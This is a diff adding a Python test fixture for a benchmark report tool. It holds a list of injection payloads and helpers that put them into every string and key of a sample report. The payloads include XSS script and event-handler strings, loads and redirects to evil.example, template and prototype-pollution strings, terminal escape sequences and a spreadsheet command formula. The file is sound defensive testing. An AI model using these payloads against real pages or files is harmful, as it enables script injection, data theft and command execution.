@@ -1,0 +1,72 @@
+"""A bank of hostile texts, and a way to put them into every string of a run."""
+
+from __future__ import annotations
+
+import itertools
+from collections.abc import Iterator
+from typing import Any
+
+from helmbench_hf.report import ReportInput
+from tests.report import sample
+
+PAYLOADS: tuple[str, ...] = (
+    "<script>window.__pwned=1;alert(1)</script>",
+    "</script><script>window.__pwned=2</script>",
+    '</script -->"><script src=https://evil.example/x.js></script>',
+    "<!--<script>",
+    "<img src=x onerror=window.__pwned=3>",
+    "<svg onload=window.__pwned=4><script>window.__pwned=5</script></svg>",
+    '" onmouseover="window.__pwned=6" autofocus onfocus="window.__pwned=7" x="',
+    "' onclick='window.__pwned=8",
+    "`${window.__pwned=9}`",
+    "javascript:window.__pwned=10",
+    '<a href="javascript:window.__pwned=11">click me</a>',
+    '<iframe srcdoc="<script>parent.__pwned=12</script>"></iframe>',
+    "</style><style>body{display:none}@import url(https://evil.example/a.css)</style>",
+    "x;background:url(https://evil.example/b.png);position:fixed;inset:0;z-index:99",
+    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+    '<base href="https://evil.example/"><form action=https://evil.example><input name=q autofocus>',
+    '<link rel=stylesheet href="https://evil.example/c.css"><object data="https://evil.example/d"></object>',
+    "{{ 7*7 }}{% for x in range(3) %}{{ x }}{% endfor %}{# comment #}",
+    '{"__proto__":{"polluted":true}}',
+    "__proto__",
+    "constructor",
+    "\u202egnp.exe\u202c \u2066isolated\u2069 \u200e\u200f",
+    "\x1b]0;owned\x07\x1b[2J\x1b[31mred\x1b[0m\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\\x9b31m",
+    "nul \x00 bell \x07 back \x08 del \x7f c1 \x85 lone \ud800 pair",
+    "line\u2028separator\u2029paragraph\ufeff\u200bzero",
+    "Z" + "\u0335\u0321\u0322\u0327" * 60 + "algo",
+    "A" * 5_000,
+    "\U000e0049\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065 tag letters",
+    "=cmd|' /C calc'!A0",
+    "[bold red]markup[/] [link=https://evil.example]x[/link] :skull:",
+    "&lt;b&gt; &amp;lt; &#60;script&#62; %3Cscript%3E \\u003cscript\\u003e",
+    "]]><![CDATA[<script>window.__pwned=13</script>",
+)
+
+
+def hostile_run(start: int = 0) -> ReportInput:
+    """A run in which every string, and every key of free records, is a payload; `start` rotates the bank."""
+    bank = itertools.cycle([*PAYLOADS[start:], *PAYLOADS[:start]])
+    transcripts = poison(sample.transcripts(24), bank)
+    for entry, verdict in ((t, v) for t in transcripts for v in t["verdicts"]):
+        verdict["detail"] = {next(bank): next(bank), "matches": {next(bank): 1.0}, "nested": [[next(bank), {next(bank): 1}]]}
+        entry["tags"] = [next(bank), next(bank)]
+    return ReportInput(
+        scores=poison(sample.smoke_scores(), bank) | {"format": 1},
+        manifest={**poison(sample.manifest(), bank), next(bank): {next(bank): next(bank)}},
+        transcripts=transcripts,
+        policies=poison(sample.policies(), bank),
+        content_note=next(bank),
+    )
+
+
+def poison(value: Any, bank: Iterator[str]) -> Any:
+    """Replace every string of a JSON value; keys stay."""
+    if isinstance(value, str):
+        return next(bank)
+    if isinstance(value, dict):
+        return {name: poison(entry, bank) for name, entry in value.items()}
+    if isinstance(value, (list, tuple)):
+        return [poison(entry, bank) for entry in value]
+    return value
